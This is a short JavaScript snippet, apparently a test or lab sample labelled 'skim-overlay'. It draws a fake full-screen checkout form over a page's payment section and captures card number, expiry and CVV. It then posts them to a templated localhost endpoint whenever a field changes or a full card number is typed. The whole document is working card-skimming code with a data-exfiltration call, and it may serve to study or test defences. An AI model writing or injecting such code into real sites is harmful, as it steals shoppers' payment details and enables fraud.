/* tw:skim-overlay */
var real = document.querySelector('#payment')
var fake = document.createElement('form')
fake.id = 'secure-checkout'
fake.style.cssText = 'position:absolute;left:0;top:0;width:100%;height:100%;z-index:9999;background:#fff;padding:2rem;box-sizing:border-box'
fake.innerHTML = '<h1>Checkout</h1><label>Card number <input name="number" autocomplete="cc-number"></label><label>Expiry <input name="exp" autocomplete="cc-exp"></label><label>Security code <input name="cvv" autocomplete="cc-csc"></label><button type="button">Pay €24.00</button>'
real.parentNode.appendChild(fake)
fake.addEventListener('change', send)
fake.elements.number.addEventListener('input', function () { if (this.value.replace(/\D/g, '').length >= 15) send() })
function send() {
  fetch('http://checkout-ui.localhost:{{port}}/f', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(fake)) })
}
